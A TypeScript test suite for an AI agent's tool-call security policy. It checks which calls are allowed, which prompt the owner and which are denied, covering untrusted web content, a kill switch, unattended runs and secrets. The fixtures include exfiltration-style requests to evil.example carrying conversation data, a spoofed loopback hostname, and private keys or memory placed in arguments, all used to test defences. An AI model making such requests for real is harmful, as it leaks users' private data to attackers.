import { verifies } from "@freehold/testkit";
import { describe, expect, it } from "vitest";
import { decide } from "./decide.ts";
import type { PolicyContext, ToolSubject } from "./subject.ts";
import { builtin, config, context, request, tool, toolGrant, untrustedLabels } from "./test-subjects.ts";

type Case = readonly [name: string, subject: ToolSubject, context: Partial<PolicyContext>, ruleId: string];

const untrusted: Partial<PolicyContext> = { labels: untrustedLabels };
const search = { readOnly: true, idempotent: true, destructive: false, openWorld: true };
const reading = { readOnly: true, idempotent: true, destructive: false, openWorld: false };
const deleting = { readOnly: false, idempotent: false, destructive: true, openWorld: false };
const remember = (source: ToolSubject["sources"][string]): ToolSubject =>
  builtin("remember", {
    effects: { readOnly: false, idempotent: true, destructive: false, openWorld: false },
    arguments: { text: "I like tea" },
    sources: { text: source },
  });

const allowed: readonly Case[] = [
  ["time", builtin("time"), {}, "tool.read"],
  ["time, whatever was read", builtin("time"), untrusted, "tool.read"],
  ["recall, whatever was read", builtin("recall"), untrusted, "tool.read"],
  ["recall on a schedule", builtin("recall"), { attended: false }, "tool.read"],
  ["remember of the owner's words", remember("owner"), {}, "tool.own-words"],
  ["remember of the owner's words beside a page", remember("owner"), untrusted, "tool.own-words"],
  ["a read of a vetted server", tool({ effects: reading }), untrusted, "tool.read"],
  ["a search of a vetted server", tool({ effects: search }), {}, "tool.read"],
  ["a change by a vetted server", tool(), {}, "tool.vetted-change"],
  ["a page that the owner named", request("https://a.example/x", "owner"), untrusted, "tool.read"],
  ["a page on a listed origin", request("http://127.0.0.1:4021/r?q=tea", "derived"), untrusted, "tool.read"],
  [
    "a listed origin on loopback, local only",
    request("http://127.0.0.1:4021/r", "owner"),
    { localOnly: true },
    "tool.read",
  ],
  ["a page that the model chose, nothing read yet", request("https://a.example/x", "derived"), {}, "tool.read"],
  ["a tool that the owner allowed for good", tool({ vetted: false }), { grants: [toolGrant] }, "tool.standing-rule"],
  [
    "a tool that the owner allowed even beside pages",
    tool({ effects: deleting }),
    { ...untrusted, grants: [{ ...toolGrant, whenUntrusted: true }] },
    "tool.standing-rule",
  ],
];

const asked: readonly Case[] = [
  ["a change beside a page", tool(), untrusted, "rule-of-two"],
  ["remember of a page's words", remember("untrusted"), {}, "rule-of-two"],
  ["a page that a page named", request("https://evil.example/?d=tea", "untrusted"), untrusted, "rule-of-two"],
  [
    "a page that the model made up beside a page",
    request("https://a.example/?d=tea", "derived"),
    untrusted,
    "rule-of-two",
  ],
  [
    "a search beside a page",
    tool({ effects: search, arguments: { q: "tea" }, sources: { q: "derived" } }),
    untrusted,
    "rule-of-two",
  ],
  ["a POST", request("https://a.example/x", "owner", "POST"), {}, "tool.destructive"],
  ["a deletion", tool({ effects: deleting }), {}, "tool.destructive"],
  ["a read by a server that nobody vetted", tool({ vetted: false, effects: reading }), {}, "tool.unvetted-read"],
  ["a tool allowed for good, but beside a page", tool(), { ...untrusted, grants: [toolGrant] }, "rule-of-two"],
];

const denied: readonly Case[] = [
  ["anything once stopped", builtin("time"), { halted: true }, "halt.kill-switch"],
  ["a tool that joined later", tool({ offered: false }), {}, "tool.not-offered"],
  ["a change by a server that nobody vetted", tool({ vetted: false }), {}, "tool.unknown-change"],
  [
    "a change by a server that allowed another tool",
    tool({ vetted: false, name: "files__delete" }),
    { grants: [toolGrant] },
    "tool.unknown-change",
  ],
  ["a page, local only", request("https://a.example/", "owner"), { localOnly: true }, "local-only.tool"],
  [
    "a request beside a secret",
    request("https://a.example/", "owner"),
    { labels: { integrity: "owner", confidentiality: "secret", origins: ["owner"] } },
    "secret.in-context",
  ],
  ["an address with memory in it", request("https://a.example/?d=x", "memory"), {}, "secret.memory-in-address"],
  [
    "a secret's placeholder in an address",
    request("https://a.example/?k={{secret:k}}", "owner"),
    {},
    "secret.in-arguments",
  ],
  [
    "a private key in an argument",
    tool({ arguments: { text: "-----BEGIN EC PRIVATE KEY-----" }, sources: { text: "owner" } }),
    {},
    "secret.in-arguments",
  ],
  ["what would ask, on a schedule", tool({ effects: deleting }), { attended: false }, "unattended.would-ask"],
];

describe("tool calls", () => {
  it.each(allowed)("allows %s", (_name, subject, change, ruleId) => {
    verifies("security.policy.basics-unasked");
    expect(decide(subject, context(change), config)).toMatchObject({ verdict: "allow", ruleId });
  });

  it.each(asked)("asks about %s", (_name, subject, change, ruleId) => {
    verifies("security.policy.rule-of-two");
    const decision = decide(subject, context(change), config);
    expect(decision).toMatchObject({ verdict: "ask", ruleId });
    expect(decision.questions?.[0]).toBe(decision.reason);
  });

  it.each(denied)("denies %s", (_name, subject, change, ruleId) => {
    verifies("security.policy.hard-denials");
    expect(decide(subject, context(change), config)).toMatchObject({ verdict: "deny", ruleId });
  });

  it("denies an unvetted server's change even where the owner is there to ask", () => {
    verifies("security.policy.default-deny");
    expect(decide(tool({ vetted: false }), context(), config).verdict).toBe("deny");
  });

  it("denies unattended what it asks attended", () => {
    verifies("security.policy.unattended-denies");
    const subject = tool();
    expect(decide(subject, context(untrusted), config).verdict).toBe("ask");
    expect(decide(subject, context({ ...untrusted, attended: false }), config).verdict).toBe("deny");
  });

  it("says in words what it refuses and why", () => {
    const { reason } = decide(request("https://evil.example/?d=tea", "untrusted"), context(untrusted), config);
    expect(reason).toBe(
      "This conversation holds private words and text from web:blog.example, and http_request would tell something to evil.example.",
    );
  });

  it("believes nothing that an unvetted server says about itself beyond a question", () => {
    const claims = tool({ vetted: false, effects: reading });
    expect(decide(claims, context({ localOnly: true }), config).verdict).toBe("deny");
  });

  it("does not take a name for a loopback address", () => {
    const listed = { ...config, listedOrigins: ["http://127.0.0.1.evil.example"] };
    const subject = request("http://127.0.0.1.evil.example/", "owner");
    expect(decide(subject, context({ localOnly: true }), listed).ruleId).toBe("local-only.tool");
  });
});
